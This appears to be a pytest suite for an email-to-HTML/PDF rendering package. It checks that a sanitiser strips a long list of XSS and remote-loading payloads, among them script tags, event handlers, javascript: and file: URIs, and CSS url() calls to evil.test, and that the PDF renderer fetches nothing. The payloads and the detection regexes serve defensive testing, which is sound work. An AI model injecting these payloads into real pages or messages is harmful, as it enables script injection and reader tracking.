"""What a reader sees of a message, and that neither browser nor renderer fetches anything because of it."""

from ctypes.util import find_library
from email.message import EmailMessage
from imio.mailbridge.message.parsing.invitation import read_invitations
from imio.mailbridge.message.parsing.parse import parse
from imio.mailbridge.message.rendition import confined
from imio.mailbridge.message.rendition import pdf
from imio.mailbridge.message.rendition.html_document import beginning
from imio.mailbridge.message.rendition.html_document import END
from imio.mailbridge.message.rendition.html_document import head
from imio.mailbridge.message.rendition.html_document import Labels
from imio.mailbridge.message.rendition.prepare import outline_and_html
from imio.mailbridge.message.rendition.sanitise import without_tracking
from imio.mailbridge.message.rendition.written import written
from pathlib import Path
from tempfile import TemporaryFile
from tests.servers.listener import Listener
from tests.servers.required import missing
import json
import pytest
import re
import zlib


WORDS = Labels()
MESSAGES = sorted((Path(__file__).parent.parent / "messages").glob("*.eml"))
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20


def shown(html):
    return written(parse(b"From: a@b.test\nContent-Type: text/html; charset=utf-8\n\n" + html.encode()))


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="&#106;avascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style>*{background:url(http://evil.test)}</style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='http://evil.test/x.swf'>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv='Content-Security-Policy' content='default-src *'>",
    "<base href='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/x.css'>",
    "<link rel=prefetch href='http://evil.test/'>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<style>body{background:url(http://evil.test/x)}</style>",
    "<div style='background:url(http://evil.test/x)'>x</div>",
    "<div style='background-image:url(http://evil.test/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(http://evil.test/x)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='list-style:url(http://evil.test/x)'>x</div>",
    "<div style='content:url(http://evil.test/x)'>x</div>",
    "<div style='color:\\75rl(http://evil.test/x)'>x</div>",
    "<div style='font-family:\\\"}*{x\\\"'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='x' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<a ping='http://evil.test/' href='http://x.test/'>x</a>",
    "<form action='http://evil.test/'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action='javascript:alert(1)'>",
    "<input type=image src='http://evil.test/x' onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<select onfocus=alert(1) autofocus></select>",
    "<video src='http://evil.test/x' poster='http://evil.test/p' onerror=alert(1)></video>",
    "<audio src='http://evil.test/x' autoplay></audio>",
    "<source src='http://evil.test/x'>",
    "<img srcset='http://evil.test/x 1x, http://evil.test/y 2x'>",
    "<picture><source srcset='http://evil.test/x'><img src='http://evil.test/y'></picture>",
    "<table background='http://evil.test/x'><tr><td background='http://evil.test/y'>x</td></tr></table>",
    "<bgsound src='http://evil.test/x'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<xml onreadystatechange=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p>\x00<scri\x00pt>alert(1)</scri\x00pt></p>",
    "</body></html><script>alert(1)</script>",
    "<img src='cid:x' onload=alert(1)>",
    "<img src='//evil.test/x'>",
    "<img src='\\\\evil.test\\x'>",
    "<img src='http://127.0.0.1:9/x'>",
    "<img src='file:///etc/passwd'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<blockquote cite='http://evil.test/'>x</blockquote>",
    "<q cite='javascript:alert(1)'>x</q>",
]
#: What may not stand in the result, in a tag; text that looks like it is harmless.
FORBIDDEN_TAG = re.compile(
    r"<\s*/?\s*(?:script|style|link|meta|base|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|select"
    r"|svg|math|video|audio|source|picture|template|noscript|marquee|xml|isindex|bgsound)\b",
    re.IGNORECASE,
)
FORBIDDEN_ATTRIBUTE = re.compile(
    r"<[^>]*\s(?:on\w+|srcset|background|poster|ping|action|formaction|srcdoc|cite|dynsrc|lowsrc|xlink:href|data)\s*=",
    re.IGNORECASE,
)
FORBIDDEN_VALUE = re.compile(
    r"<[^>]*(?:javascript:|vbscript:|file:|expression|url\s*\(|data:(?!image/(?:png|jpeg|gif|webp);)|position\s*:)",
    re.IGNORECASE,
)
LOADS = re.compile(r"<img[^>]*\ssrc=\"(?!data:image/)", re.IGNORECASE)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_neutralised(attack):
    html = shown(f"<p>Bonjour</p>{attack}<p>fin</p>").html
    assert "Bonjour" in html
    for forbidden in (FORBIDDEN_TAG, FORBIDDEN_ATTRIBUTE, FORBIDDEN_VALUE, LOADS):
        assert not forbidden.search(html.replace('<details class="quote">', "")), html


def test_there_are_enough_attacks():
    assert len(ATTACKS) >= 60


@pytest.mark.parametrize(
    ("html", "blocked"),
    [
        ("<p>x</p>", 0),
        ("<img src='https://t.test/p.gif'>x", 1),
        ("<img src='https://t.test/p.gif'><img src='http://t.test/q.gif'>x", 2),
        ("<td background='https://t.test/p.gif'>x</td><table background='https://t.test/p.gif'><tr><td>y", 1),
        ("<div style='background:url(https://t.test/p.gif)'>x</div>", 1),
        ("<img srcset='https://t.test/p.gif 2x'>x", 1),
        ("<img src='data:image/png;base64,AAAA'>x", 0),
    ],
)
def test_what_was_left_out_is_counted(html, blocked):
    found = shown(html)
    assert found.blocked == blocked


def test_style_of_a_newsletter_stays():
    html = shown(
        "<table width='600' bgcolor='#eee'><tr><td style='color: red; padding: 4px; float: left'>x</td></tr></table>"
    ).html
    assert 'bgcolor="#eee"' in html
    assert "color:red" in html.replace(" ", "")
    assert "float" not in html


@pytest.mark.parametrize(
    ("url", "clean"),
    [
        ("https://x.test/?utm_source=a&utm_medium=b", "https://x.test/"),
        ("https://x.test/?a=1&fbclid=2&b=3#c", "https://x.test/?a=1&b=3#c"),
        ("https://x.test/?a=%C3%A9&b=", "https://x.test/?a=%C3%A9&b="),
        ("https://x.test/path", "https://x.test/path"),
        ("mailto:a@x.test?subject=utm_source", "mailto:a@x.test?subject=utm_source"),
        ("https://[x", "https://[x"),
    ],
)
def test_links_lose_what_follows_the_reader(url, clean):
    assert without_tracking(url) == clean


def mail(html, *images):
    message = EmailMessage()
    message["From"] = "Zoé <zoe@citizen.test>"
    message["To"], message["Subject"] = "contact@maville.test", "Nid de <poule>"
    message.set_content("Texte seul\n")
    message.add_alternative(html, "html")
    for cid, content, kind in images:
        message.get_payload()[1].add_related(content, *kind.split("/"), cid=cid)
    return parse(message.as_bytes())


def test_inline_images_are_embedded():
    html = written(mail("<p><img src='cid:Photo%401'></p>", ("<photo@1>", PNG, "image/png"))).html
    assert 'src="data:image/png;base64,iVBORw0K' in html


@pytest.mark.parametrize(
    ("content", "kind"), [(b"<svg onload=alert(1)>", "image/svg+xml"), (b"<html>", "image/x-icon")]
)
def test_inline_image_of_another_kind_is_not(content, kind):
    assert "data:" not in written(mail("<p>x<img src='cid:a@1'></p>", ("<a@1>", content, kind))).html


def test_plain_text_keeps_its_lines_and_links():
    raw = b"From: a@b.test\nContent-Type: text/plain; charset=utf-8\n\nUn <b>\n  deux  https://x.test/a?b=1&c=2.\n"
    html = written(parse(raw)).html
    assert 'Un &lt;b&gt;\n  deux  <a href="https://x.test/a?b=1&amp;c=2"' in html
    assert html.startswith('<div class="text">')


@pytest.mark.parametrize(
    "text",
    [
        "Oui.\n\n> un\n> deux\n> trois\n",
        "Oui.\n\nLe lun. 16 nov. 2026, Jeanne a écrit :\nun\ndeux\n",
        "Oui.\n\n-----Message d'origine-----\nDe : x\nun\n",
    ],
)
def test_quoted_text_can_be_folded(text):
    html = written(parse(b"From: a@b.test\nContent-Type: text/plain; charset=utf-8\n\n" + text.encode())).html
    assert html.index("Oui.") < html.index("<details") < html.index("un")
    assert html.count("<details") == html.count("</details>") == 1


def test_quoted_html_can_be_folded_and_stays_well_formed():
    html = shown("<p>Oui</p><blockquote>a<blockquote>b</blockquote></blockquote><p>x</p><blockquote>c").html
    assert html.count("<details") == html.count("</details>") == 2
    assert html.count("<blockquote") == html.count("</blockquote>") == 3


@pytest.mark.parametrize(
    "inside",
    [
        '<p title="<blockquote>">Oui</p>',
        '<p title="</blockquote>">Oui</p>',
        "<p title='&lt;blockquote&gt;<b>'>Oui</p>",
        '<a href="https://a.test/?<blockquote>">Oui</a>',
        "<p>Oui &lt;blockquote&gt; <!-- <blockquote> --></p>",
    ],
)
def test_only_an_element_is_folded(inside):
    """Folding searches for tags in what nh3 wrote: it must escape them in attributes and text."""
    html = shown(f"<blockquote>{inside}</blockquote>").html
    assert html.lower().count("<blockquote") == html.count("</blockquote>") == 1
    assert html.startswith("<details")
    assert html.endswith("</blockquote></details>")


def test_html_without_content_gives_way_to_the_text():
    assert "Texte seul" in written(mail("<html><body><style>x</style>&nbsp; <br></body></html>")).html


def test_head_is_escaped():
    message = mail("<p>x</p>")
    html = beginning(
        WORDS, "<titre>", head(message, WORDS, "lundi"), ["<plan>.pdf (3 B)"], ["<note>"], [("<a>", "<b>")]
    )
    assert "Nid de &lt;poule&gt;" in html
    assert "&lt;plan&gt;.pdf (3 B)" in html
    for text in ("titre", "note", "a", "b"):
        assert f"&lt;{text}&gt;" in html


def test_words_of_the_summary_cannot_leave_the_style_sheet():
    html = beginning(Labels(quoted='Texte « cité »"; } </style><script>'), "x")
    assert 'content: "Texte \\ab  cité \\bb \\22 \\3b  \\7d  \\3c \\2f style\\3e \\3c script\\3e "; }' in html


@pytest.mark.parametrize("path", MESSAGES, ids=lambda path: path.stem)
def test_whole_corpus_can_be_shown(path):
    message = parse(path.read_bytes())
    outline, html = outline_and_html(message)
    html = beginning(WORDS, "x", head(message, WORDS, "")) + html + END
    assert not FORBIDDEN_VALUE.search(html.partition("</style>")[2])
    html.encode()
    assert type(outline).from_data(json.loads(json.dumps(outline.as_data()))) == outline


def test_invitation_is_read():
    raw = (Path(__file__).parent.parent / "messages/redirect-invitation.eml").read_bytes()
    (invitation,) = outline_and_html(parse(raw))[0].invitations
    assert (invitation.summary, invitation.place, invitation.method) == (
        "Inauguration de la place",
        "Place communale",
        "REQUEST",
    )
    assert f"{invitation.start:%Y-%m-%d %H:%M}" == "2026-04-01 09:00"


def test_appointment_that_is_cancelled_by_its_status():
    event = "BEGIN:VEVENT\nUID:1\nSUMMARY:Réunion\nDTSTART:20261202T083000Z\nSTATUS:CANCELLED\nEND:VEVENT\n"
    for method in ("METHOD:REQUEST\n", "METHOD:PUBLISH\n", ""):
        (found,) = read_invitations(f"BEGIN:VCALENDAR\n{method}{event}END:VCALENDAR\n")
        assert found.method == "CANCEL"


def test_empty_message_says_so():
    assert outline_and_html(parse(b"From: a@b.test\n\n"))[0].is_empty


# the PDF


@pytest.fixture
def renderer():
    """WeasyPrint and the libraries that it needs."""
    if not pdf.is_available():
        missing("WeasyPrint is not installed: pip install '.[pdf]'")
    for name, package in (("pango-1.0", "libpango-1.0-0"), ("pangoft2-1.0", "libpangoft2-1.0-0")):
        if find_library(name) is None:
            missing(f"{name} is not installed: apt-get install {package}")


def render(html):
    with TemporaryFile() as source, TemporaryFile() as target:
        source.write(html.encode())
        size = pdf.render(source, target)
        target.seek(0)
        made = target.read()
    assert len(made) == size
    return made


@pytest.mark.usefixtures("renderer")
def test_pdf_is_an_archive_pdf_with_the_words_embedded():
    made = render(
        beginning(WORDS, "Permis d’août", [("De", "Zoé")], ["plan.pdf (3 B)"])
        + shown("<p>Bonjour é €</p>").html
        + END
    )
    assert made.startswith(b"%PDF-1.7")
    streams = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", made, re.DOTALL)
    opened = [zlib.decompress(each) if each.startswith(b"x") else each for each in streams]
    assert any(b"pdfaid:part" in each for each in opened)
    assert any("Permis d’août</" in each.decode("utf-8", "replace") for each in opened), (
        "the title of the file"
    )


@pytest.mark.usefixtures("renderer")
def test_renderer_asks_nobody(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("geheim-secret")
    with Listener() as listener:
        here = listener.url
        # not cleaned: what the renderer would be given if all else failed
        html = f"""<html><head><link rel=stylesheet href="{here}/a.css"><style>@import url({here}/b.css);
            @font-face {{ font-family: x; src: url({here}/c.woff) }} body {{ background: url({here}/d.png); font-family: x }}
            </style></head><body><img src="{here}/e.png"><img src="file://{secret}"><object data="{here}/f.svg"></object>
            <img srcset="{here}/g.png 2x"><a rel=attachment href="file://{secret}">x</a><link rel=attachment href="{here}/h">
            <svg><image href="{here}/i.png"/></svg><p>Bonjour</p></body></html>"""
        made = render(html)
    assert made.startswith(b"%PDF")
    assert listener.connections == 0
    assert b"geheim" not in made


@pytest.mark.usefixtures("renderer")
def test_renderer_that_is_not_done_is_ended(monkeypatch):
    monkeypatch.setattr(pdf, "SECONDS", 0.01)
    with pytest.raises(confined.Unfinished):
        render("<p>x</p>")


@pytest.mark.usefixtures("renderer")
def test_renderer_that_cannot_start_does_not_blame_the_message(monkeypatch):
    monkeypatch.setenv("PYTHONMALLOC", "nonsense")
    with pytest.raises(confined.Unfinished):
        render("<p>x")
